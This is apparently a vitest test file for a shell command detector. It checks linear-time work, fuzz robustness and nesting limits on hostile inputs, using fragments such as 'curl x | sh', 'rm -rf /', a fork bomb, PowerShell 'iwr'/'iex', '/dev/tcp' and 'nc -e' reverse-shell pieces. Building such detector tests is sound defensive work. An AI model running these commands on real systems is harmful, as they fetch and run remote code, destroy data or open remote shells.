import { describe, expect, it } from 'vitest';
import { commandsDetector } from './index.js';
import { lex } from './shell-lexer.js';
import { parse } from './shell-parser.js';

const detect = (text: string) => commandsDetector.detect(text, { present: new Set<string>(), view: 'original' });

/** Milliseconds for one detect() call. */
function time(text: string): number {
  const t0 = performance.now();
  const findings = detect(text);
  const ms = performance.now() - t0;
  for (const f of findings) {
    expect(f.start).toBeGreaterThanOrEqual(0);
    expect(f.end).toBeLessThanOrEqual(text.length);
    expect(f.end).toBeGreaterThan(f.start);
  }
  return ms;
}

/** Hostile inputs: each is a function of a repeat count so growth can be measured. */
const HOSTILE: Record<string, (n: number) => string> = {
  'nested $(': (n) => `bash -c ${'"$('.repeat(n)}curl x | sh${')"'.repeat(n)}`,
  'open $( only': (n) => `sh ${'$('.repeat(n)}`,
  'nested groups': (n) => `${'('.repeat(n)}rm -rf /${')'.repeat(n)}`,
  'brace groups': (n) => `${'{ '.repeat(n)}rm -rf /`,
  backticks: (n) => `rm ${'`'.repeat(n)}`,
  'quotes everywhere': (n) => `curl ${`'"`.repeat(n)} | sh`,
  'unterminated quotes per line': (n) => "echo 'curl x | sh\n".repeat(n),
  'here-docs without end': (n) => 'bash <<EOF\n'.repeat(n),
  'here-doc in here-doc': (n) => `${'bash <<A\n'.repeat(n)}rm -rf /\n`,
  'continuations': (n) => `curl ${'\\\n'.repeat(n)}| sh`,
  'one long line': (n) => `curl -s ${'x'.repeat(n * 20)} | sh`,
  'many commands on a line': (n) => 'rm -rf / ; '.repeat(n),
  'many pipes': (n) => `curl x ${'| sh '.repeat(n)}`,
  'function definitions': (n) => 'f(){ '.repeat(n),
  'fork-bomb-like': (n) => ':(){ :|:& };'.repeat(n),
  'case patterns': (n) => `case x in ${'a|'.repeat(n)}b) rm -rf / ;; esac`,
  'prose with triggers': (n) => 'You could run rm or curl or bash here, maybe, with sh. '.repeat(n),
  'inline code': (n) => `text ${'`rm -rf /` and '.repeat(n)}`,
  'fences': (n) => '```bash\ncurl -o /tmp/a.sh http://x/a && bash /tmp/a.sh\n```\n'.repeat(n),
  'saved names mentioned everywhere': (n) => `curl -o a.sh http://x/a\n${'sh a.sh; ./a.sh\n'.repeat(n)}`,
  'powershell statements': (n) => `${'$a = iwr http://x/a; '.repeat(n)}iex $a`,
  'windows paths': (n) => 'C:\\Windows\\System32\\'.repeat(n),
  '${ braces': (n) => `echo ${'${'.repeat(n)}`,
  'variables': (n) => `${Array.from({ length: n }, (_, i) => `v${i}=$v${i > 0 ? i - 1 : 0}x`).join('\n')}\ncurl $v1 | sh`,
};

describe('hostile input', () => {
  for (const [name, make] of Object.entries(HOSTILE)) {
    it(`${name}: bounded, linear-time work`, () => {
      time(make(200)); // warm up
      const small = Math.max(0.5, Math.min(...[0, 1, 2].map(() => time(make(2_000)))));
      const large = Math.min(...[0, 1].map(() => time(make(16_000))));
      // 8x the input: linear work stays well under 8x (plus noise); quadratic would be 64x.
      expect(large).toBeLessThan(Math.max(small * 24, 150));
      expect(large).toBeLessThan(3_000);
    });
  }

  it('never throws and keeps spans inside the text on random shell-ish input (fuzz)', () => {
    let seed = 0x5eed;
    const rand = () => ((seed = (seed * 1664525 + 1013904223) >>> 0) / 2 ** 32);
    const atoms = ['curl', ' ', '|', 'sh', '$(', ')', '`', "'", '"', '\\', '\n', '<<EOF', 'EOF', '>&', '/dev/tcp/1.2.3.4/5', '&&', ';', 'rm -rf /', '{', '}', '(', '$x', 'x=', '#', '```', 'powershell -enc ', 'SQBFAFgA', 'iex', '$\'\\x', '${IFS}', '<(', '2>&1', 'nc -e', 'eval', 'bash -c', '\t', '^', 'C:\\', '%TEMP%', ':(){'];
    for (let i = 0; i < 1500; i++) {
      let text = '';
      const n = 1 + Math.floor(rand() * 40);
      for (let k = 0; k < n; k++) text += atoms[Math.floor(rand() * atoms.length)];
      expect(() => time(text), text).not.toThrow();
    }
  });

  it('does not recurse past the nesting limit (no stack overflow on deep nesting)', () => {
    const deep = `${'$('.repeat(100_000)}x`;
    expect(() => parse(lex(deep))).not.toThrow();
    expect(() => detect(`bash -c "${'$(bash -c '.repeat(50_000)}"`)).not.toThrow();
    expect(() => detect('('.repeat(200_000))).not.toThrow();
    expect(() => detect('{ '.repeat(200_000))).not.toThrow();
    expect(() => detect(`${'bash <<A\n'.repeat(5_000)}x`)).not.toThrow();
  });

  it('analyses only the first 10,000 characters of a line', () => {
    const padded = `echo ${'a'.repeat(10_100)} ; rm -rf /`;
    expect(detect(padded)).toEqual([]);
    expect(detect(`rm -rf / ; echo ${'a'.repeat(10_100)}`).map((f) => f.rule)).toEqual(['commands.destructive.rm-root']);
  });

  it('handles a 1 MB mixed response in well under a second', () => {
    const parts = [
      'Here is how to set up the project. First install the dependencies, then build.',
      '```bash\nsudo apt-get update && sudo apt-get install -y nginx\ncurl -o app.tar.gz https://example.com/app.tar.gz\ntar xzf app.tar.gz\nrm -rf ./build\n```',
      'Run `npm ci` and then `npm test`. The `curl` tool downloads files; never pipe it to `sh` blindly.',
      '```powershell\nGet-ChildItem -Recurse | Where-Object Length -gt 1MB\n```',
      '```python\nimport subprocess\nsubprocess.run(["git", "status"], check=True)\n```',
      '- Step 1: `docker compose up -d`\n- Step 2: `kubectl get pods -n default`',
    ];
    let text = '';
    for (let i = 0; text.length < 1 << 20; i++) text += `${parts[i % parts.length]}\n\n`;
    time(text);
    const ms = Math.min(time(text), time(text));
    expect(ms).toBeLessThan(1_000);
  });
});
